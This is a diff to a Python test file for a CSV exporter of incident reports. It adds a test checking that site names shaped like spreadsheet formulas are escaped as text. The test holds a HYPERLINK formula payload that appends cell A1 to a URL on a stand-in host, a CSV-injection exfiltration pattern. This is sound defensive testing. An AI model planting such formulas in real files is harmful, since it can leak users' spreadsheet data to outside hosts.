@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime, timedelta
 
@@ -307,6 +309,15 @@ def test_csv_has_one_line_per_cell_and_marks_suppression():
     assert text.splitlines()[0] == "period,row,measure,dimension,value,suppressed"
     assert "2025-01 to 2025-02,2025-01,incidents_by_category,weapon,,true" in text
     assert "2025-01 to 2025-02,total,incidents_by_category,weapon,10,false" in text
+
+
+def test_csv_marks_a_site_name_that_looks_like_a_formula_as_text():
+    site = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    text = to_csv(build([jan(site=site) for _ in range(6)]))
+    rows = list(csv.reader(io.StringIO(text)))
+    sites = [r[3] for r in rows if r[2] == "incidents_by_site"]
+    assert sites and all(d == "'" + site for d in sites)
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
 
 
 def test_board_pack_is_self_contained_with_four_charts():
